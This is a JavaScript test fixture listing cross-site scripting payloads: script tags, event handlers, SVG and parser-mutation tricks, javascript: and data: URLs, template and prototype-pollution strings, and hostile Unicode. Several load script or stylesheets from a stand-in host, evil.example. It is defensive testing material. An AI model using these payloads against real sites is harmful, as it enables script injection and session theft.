/**
 * Texts by which somebody may try to get more than text into a page. Each that would run sets `ran` in the window, or
 * opens a dialog.
 */
const markup = [
  "<script>window.ran=1</script>",
  "<ScRiPt >window.ran=1</sCrIpT >",
  "<script src=data:text/javascript,window.ran=1></script>",
  "<script\nsrc='//evil.example/x.js'>\n</script>",
  "<<script>window.ran=1;//<</script>",
  "</textarea><script>window.ran=1</script>",
  "</title><script>window.ran=1</script>",
  "</style></noscript></template><script>window.ran=1</script>",
  "<iframe src=javascript:window.ran=1></iframe>",
  "<iframe srcdoc='<script>parent.ran=1</script>'></iframe>",
  "<object data=javascript:window.ran=1></object>",
  "<embed src=javascript:window.ran=1>",
  "<form action=javascript:window.ran=1><button>press</button></form>",
  "<button form=x formaction=javascript:window.ran=1>press",
  "<base href=https://evil.example/>",
  "<meta http-equiv=refresh content='0;url=javascript:window.ran=1'>",
  "<link rel=stylesheet href=https://evil.example/x.css>",
  "<link rel=import href=data:text/html,<script>window.ran=1</script>>",
  "<pair-chat url=wss://evil.example/ws user=x peer=y></pair-chat>",
  "<template shadowrootmode=open><script>window.ran=1</script></template>",
];

const handlers = [
  "<img src=x onerror=window.ran=1>",
  "<img src=x:x OnErRoR = 'window.ran=1'>",
  "<img/src=x/onerror=alert(1)//",
  "<img src=`x`onerror=alert`1`>",
  '"><img src=x onerror="window.ran=1;alert(1)">',
  "' autofocus onfocus='window.ran=1",
  '" autofocus onfocus="window.ran=1" x="',
  "x onmouseover=window.ran=1 style=position:fixed;inset:0",
  "<body onload=window.ran=1>",
  "<input autofocus onfocus=window.ran=1>",
  "<details open ontoggle=window.ran=1><summary>x</summary></details>",
  "<video><source onerror=window.ran=1></video>",
  "<audio src=x onerror=window.ran=1>",
  "<marquee onstart=window.ran=1>x</marquee>",
  "<div popover id=p onbeforetoggle=window.ran=1>x</div><button popovertarget=p>x",
  "<style onload=window.ran=1></style>",
  "<p style='animation:appear 1s' onanimationstart=window.ran=1>x</p>",
  "<dialog open onclose=window.ran=1><form method=dialog><button autofocus>x",
];

const svg = [
  '"><svg/onload=alert(3)>&amp;&lt;b&gt;',
  "<svg><script>window.ran=1</script></svg>",
  "<svg><script href=data:text/javascript,window.ran=1 /></svg>",
  "<svg><a xlink:href=javascript:window.ran=1><text y=20>x</text></a></svg>",
  "<svg><animate onbegin=window.ran=1 attributeName=x dur=1s>",
  "<svg><set attributeName=href to=javascript:window.ran=1>",
  "<svg><use href='data:image/svg+xml,<svg id=x xmlns=http://www.w3.org/2000/svg onload=alert(1)>#x'>",
  "<svg><foreignObject><iframe srcdoc='<script>parent.ran=1</script>'></iframe></foreignObject></svg>",
  "<math><maction actiontype=statusline xlink:href=javascript:window.ran=1>x</maction></math>",
];

const mutations = [
  "<noscript><p title='</noscript><img src=x onerror=window.ran=1>'>",
  "<svg></p><style><a id='</style><img src=1 onerror=window.ran=1>'>",
  "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=1 onerror=alert(1)&gt;'>",
  "<form><math><mtext></form><form><mglyph><style></math><img src onerror=window.ran=1>",
  "<listing>&lt;img src=1 onerror=window.ran=1&gt;</listing>",
  "<!--><img src=x onerror=window.ran=1>-->",
  "<![CDATA[><img src=x onerror=window.ran=1>]]>",
  "<?xml-stylesheet href='javascript:window.ran=1'?>",
];

const urls = [
  "javascript:window.ran=1",
  "JaVaScRiPt:window.ran=1//https://a.example",
  "java\tscript:window.ran=1",
  "java\nscript:window.ran=1",
  "\u0001javascript:window.ran=1",
  "javascript://a.example/%0awindow.ran=1",
  "&#106;avascript:window.ran=1",
  "&#x6A&#x61vascript&colon;window.ran=1",
  "data:text/html,<script>window.ran=1</script>",
  "DATA:text/html;base64,PHNjcmlwdD53aW5kb3cucmFuPTE8L3NjcmlwdD4=",
  "vbscript:msgbox(1)",
  "VbScRiPt\t:msgbox(1)",
  "blob:https://a.example/00000000-0000-4000-8000-000000000000",
  "filesystem:https://a.example/temporary/x.html",
  "view-source:https://a.example/",
  'https://a.example/"onmouseover="window.ran=1',
  "https://a.example/'><img src=x onerror=window.ran=1>",
  "https://user:secret@a.example/x",
  "https://good.example\u202egro.live//:sptth",
  "http://a.example/#javascript:window.ran=1",
];

const code = [
  "${window.ran=1}",
  "{{constructor.constructor('window.ran=1')()}}",
  "<%= window.ran=1 %>#{window.ran=1}",
  "[[window.ran=1]](javascript:window.ran=1)",
  "'-alert(1)-'\\'-alert(1)//",
  "\\u003cscript\\u003ewindow.ran=1\\u003c/script\\u003e",
  "jaVasCript:/*-/*`/*\\`/*'/*\"/**/(/* */oNcliCk=alert(1) )//%0D%0A//</stYle/</titLe/</teXtarEa/</scRipt/--!>" +
    "\\x3csVg/<sVg/oNloAd=alert(1)//>\\x3e",
  "';alert(String.fromCharCode(88))//\\\";alert(1)//--></SCRIPT>\">'><SCRIPT>alert(1)</SCRIPT>",
  "<x style=background:url(https://evil.example/x)>expression(alert(1))",
  "</style><style>*{background:url(//evil.example)}@import '//evil.example/x.css';",
  "red;}body{display:none}:host{display:none}",
  "__proto__",
  "constructor.prototype",
  '{"__proto__":{"polluted":1},"constructor":{"prototype":{"polluted":1}}}',
];

const letters = [
  "\u202e\u2066evil\u2069\u202c \u200f\u061c txt.exe",
  "\u2067".repeat(70),
  "zero\u200b\u200c\u2060\ufeffwidth\u00ad\u180e",
  "line\u2028paragraph\u2029next\u0085\u000b\u000cend",
  "👩‍👩‍👧‍👦🇨🇳🏴󠁧󠁢󠁥󠁮󠁧󠁿👍🏿❤️‍🔥",
  "z\u0300\u0301\u0302\u0303\u0304".repeat(40),
  "﷽𒐫꧅".repeat(20),
  "\u0007\u001b[31m\u007f\u009b0m\ufffd\ufffe",
];

const long = ["W".repeat(4000), "<b>".repeat(1300), "<img src=x onerror=window.ran=1>\n".repeat(120)];

export const payloads = [markup, handlers, svg, mutations, urls, code, letters, long].flat();

/** What fits into a reaction. */
export function cut(text) {
  let cut = text.toWellFormed();
  while (new TextEncoder().encode(cut).length > 64) {
    cut = [...cut].slice(0, -1).join("");
  }
  return cut;
}
